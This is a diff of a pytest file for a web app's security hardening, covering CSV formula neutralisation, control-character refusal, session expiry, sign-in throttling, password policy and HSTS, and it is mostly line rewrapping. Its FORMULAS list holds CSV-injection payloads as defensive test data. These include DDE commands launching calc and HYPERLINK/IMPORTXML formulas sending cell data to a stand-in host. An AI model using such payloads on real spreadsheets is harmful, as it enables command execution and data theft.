@@ -1,7 +1,7 @@
 """Issue 24, the store's part: exports safe to open in a spreadsheet (M3), sessions that end (M5),
-throttled sign-in at one cost for known and unknown names and a password policy (M4), cookie flags and
-HSTS by configuration (M6), and the small ones: the database file 0600, NUL and bidirectional controls
-refused in imported texts."""
+throttled sign-in at one cost for known and unknown names and a password policy (M4), cookie flags
+and HSTS by configuration (M6), and the small ones: the database file 0600, NUL and bidirectional
+controls refused in imported texts."""
 from __future__ import annotations
 
 import csv
@@ -18,10 +18,11 @@ from webapp.store import MIN_PASSWORD, SIGNIN_MAX_PER_CLIENT, SIGNIN_MAX_PER_NAM
 
 # 20 texts a spreadsheet takes for a formula (OWASP "CSV Injection" and the audit's payloads)
 FORMULAS = [
-    "=1+1", '=HYPERLINK("http://x.example/?"&A1,"x")', "=cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"!A0")',
-    '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")', "+1+1", "+cmd|' /C calc'!A0", "-1+1",
-    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "@cmd|' /C calc'!A0", "-@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1",
-    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", '=IMAGE("http://x.example")',
+    "=1+1", '=HYPERLINK("http://x.example/?"&A1,"x")', "=cmd|' /C calc'!A0",
+    '=DDE("cmd";"/C calc";"!A0")', '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")', "+1+1",
+    "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "@cmd|' /C calc'!A0",
+    "-@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)",
+    '=IMAGE("http://x.example")',
 ]
 
 
@@ -49,21 +50,24 @@ def test_twenty_formula_texts_are_neutralised_on_export(app):
     assert len(rows) == 21
     for row in rows[1:]:
         for cell in row[1:4]:  # year, source, note
-            assert not cell.startswith(FORMULA_START) and cell[0] == "'" and cell[1:] in FORMULAS, row
+            assert not cell.startswith(FORMULA_START), row
+            assert cell[0] == "'" and cell[1:] in FORMULAS, row
     assert sorted(r[2][1:] for r in rows[1:]) == sorted(FORMULAS)
     # numbers stay numbers (a negative value is a value, not a formula)
-    negative = [{"town_id": "kentau", "input": "demo_natural_growth", "value": -3.5, "period": "2024",
-                 "source": "stat.gov.kz", "note": ""}]
+    negative = [{"town_id": "kentau", "input": "demo_natural_growth", "value": -3.5,
+                 "period": "2024", "source": "stat.gov.kz", "note": ""}]
     header, row = _rows(export_csv(negative, method))
     assert row[header.index("demo_natural_growth")] == "-3.5"
 
 
-def test_formula_texts_imported_are_exported_neutralised_and_read_back_unchanged(app, store, tmp_path):
+def test_formula_texts_imported_are_exported_neutralised_and_read_back_as_they_were(app, store,
+                                                                                   tmp_path):
     client = app.test_client()
     token = sign_in(client)
     sent = FORMULAS[:12] + FORMULAS[15:]  # leading tab, CR and LF are trimmed by the import
-    towns = sorted(app.extensions["atlas"].metas)[:len(sent)]  # the export: one row per town's values
-    lines = [f'{t},2029,"{f.replace(chr(34), 2 * chr(34))}",{i},1' for i, (t, f) in enumerate(zip(towns, sent))]
+    towns = sorted(app.extensions["atlas"].metas)[:len(sent)]  # exported: a town's current values
+    quoted = [f.replace('"', '""') for f in sent]
+    lines = [f'{t},2029,"{f}",{i},1' for i, (t, f) in enumerate(zip(towns, quoted))]
     r = client.post("/api/statistics", data=csv_bytes(*lines), headers={"X-CSRF-Token": token},
                     content_type="text/csv")
     assert r.status_code == 200, r.get_json()
@@ -86,8 +90,8 @@ def test_formula_texts_imported_are_exported_neutralised_and_read_back_unchanged
 
 # ---- item 7: NUL and bidirectional controls ------------------------------------------------------
 
-@pytest.mark.parametrize("char", ["\x00", "\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u2069",
-                                  "\u200f", "\u061c", "\x1b"])
+@pytest.mark.parametrize("char", ["\x00", "\u202e", "\u202d", "\u2066", "\u2067", "\u2068",
+                                  "\u2069", "\u200f", "\u061c", "\x1b"])
 @pytest.mark.parametrize("column", ["source", "year"])
 def test_control_characters_in_imported_texts_are_refused(app, store, char, column):
     client = app.test_client()
@@ -107,8 +111,9 @@ def test_control_characters_in_imported_texts_are_refused(app, store, char, colu
 def test_plain_texts_in_any_script_are_accepted(app, store):
     client = app.test_client()
     token = sign_in(client)
-    r = client.post("/api/statistics", data=csv_bytes("rudny,2023,Әкімдік есебі — отчёт «Рудный»,70,30"),
-                    headers={"X-CSRF-Token": token}, content_type="text/csv")
+    row = "rudny,2023,Әкімдік есебі — отчёт «Рудный»,70,30"
+    r = client.post("/api/statistics", data=csv_bytes(row), headers={"X-CSRF-Token": token},
+                    content_type="text/csv")
     assert r.status_code == 200, r.get_json()
     app.extensions["atlas"].rollback(1, editor="test cleanup")
 
@@ -151,8 +156,8 @@ def test_a_saved_cookie_no_longer_works_after_logout(app, store):
     assert client.post("/logout", headers={"X-CSRF-Token": token}).status_code == 302
     assert not _signed_in(client)
     assert not _signed_in(saved)  # the copy made before the sign-out: ended too
-    r = saved.post("/api/statistics", data=csv_bytes("rudny,2023,doc,70,30"), content_type="text/csv",
-                   headers={"X-CSRF-Token": token})
+    r = saved.post("/api/statistics", data=csv_bytes("rudny,2023,doc,70,30"),
+                   content_type="text/csv", headers={"X-CSRF-Token": token})
     assert r.status_code == 401
 
 
@@ -168,7 +173,8 @@ def test_removing_disabling_or_repasswording_an_editor_ends_their_sessions(app, 
     assert r.exit_code == 0, r.output
     assert not _signed_in(client)
     fresh = app.test_client()
-    login = fresh.post("/login", data={"name": name, "password": PASSWORD, "csrf_token": csrf(fresh, "/login")})
+    form = {"name": name, "password": PASSWORD, "csrf_token": csrf(fresh, "/login")}
+    login = fresh.post("/login", data=form)
     assert login.status_code == 401  # the old password (or the account) no longer signs in
 
 
@@ -181,7 +187,8 @@ def test_editor_commands(app, store):
     assert store.check_editor("olga", PASSWORD)
     r = runner.invoke(args=["set-password", "olga"], input="steppe-eagle-77\nsteppe-eagle-77\n")
     assert r.exit_code == 0 and store.check_editor("olga", "steppe-eagle-77")
-    assert runner.invoke(args=["remove-editor", "olga"]).exit_code == 0 and not store.editor_exists("olga")
+    assert runner.invoke(args=["remove-editor", "olga"]).exit_code == 0
+    assert not store.editor_exists("olga")
     for command in ("disable-editor", "enable-editor", "remove-editor"):
         r = runner.invoke(args=[command, "nobody"])
         assert r.exit_code != 0 and "editor 'nobody' does not exist" in r.output
@@ -201,12 +208,12 @@ def _login(app, name, password, client_ip):
 def test_sign_in_is_throttled_per_name(app, store):
     _editor(store, "pavel")
     for i in range(SIGNIN_MAX_PER_NAME):
-        assert _login(app, "pavel", f"guess-{i}", f"10.1.0.{i}").status_code == 401  # from 5 addresses
-    r = _login(app, "pavel", PASSWORD, "10.1.0.99")  # the right password, from a new address: refused
+        assert _login(app, "pavel", f"guess-{i}", f"10.1.0.{i}").status_code == 401  # 5 addresses
+    r = _login(app, "pavel", PASSWORD, "10.1.0.99")  # the right password, a new address: refused
     assert r.status_code == 429 and int(r.headers["Retry-After"]) > 0
     assert "Too many failed sign-ins" in r.get_data(as_text=True)
-    assert _login(app, "anna", PASSWORD, "10.1.0.99").status_code == 302  # another name is not held up
-    store.record_signin("pavel", "10.1.0.99", ok=True)  # (as after the window: the failures forgotten)
+    assert _login(app, "anna", PASSWORD, "10.1.0.99").status_code == 302  # another name: not held
+    store.record_signin("pavel", "10.1.0.99", ok=True)  # (as after the window: failures forgotten)
     assert _login(app, "pavel", PASSWORD, "10.1.0.99").status_code == 302
 
 
@@ -225,8 +232,9 @@ def test_throttled_messages_in_every_language(app):
     for lang, words in (("ru", "Слишком много"), ("kk", "тым көп"), ("en", "Too many")):
         client = app.test_client()
         client.environ_base["REMOTE_ADDR"] = "10.3.0.2"
-        r = client.post(f"/login?lang={lang}", data={"name": "lang-test", "password": "x", "lang": lang,
-                                                     "csrf_token": csrf(client, "/login")})
+        form = {"name": "lang-test", "password": "x", "lang": lang,
+                "csrf_token": csrf(client, "/login")}
+        r = client.post(f"/login?lang={lang}", data=form)
         assert r.status_code == 429 and words in r.get_data(as_text=True), lang
 
 
@@ -264,7 +272,8 @@ def test_password_policy(store, password, rule):
 
 def test_the_common_password_list_is_read(store):
     common = store_module.common_passwords()
-    assert len(common) > 250 and "qwerty123456" in common and all(len(p) >= MIN_PASSWORD for p in common)
+    assert len(common) > 250 and "qwerty123456" in common
+    assert all(len(p) >= MIN_PASSWORD for p in common)
 
 
 # ---- M6: cookie flags and HSTS -------------------------------------------------------------------
@@ -295,5 +304,6 @@ def test_secure_cookie_and_hsts_from_the_environment(tmp_path, monkeypatch):
     monkeypatch.setenv("HSTS_SECONDS", "600")
     app = make_app(tmp_path / "env.sqlite3")
     assert "Secure" in _session_cookie_header(app)
-    assert app.test_client().get("/login").headers["Strict-Transport-Security"].startswith("max-age=600;")
+    hsts = app.test_client().get("/login").headers["Strict-Transport-Security"]
+    assert hsts.startswith("max-age=600;")
     app.extensions["store"].dispose()
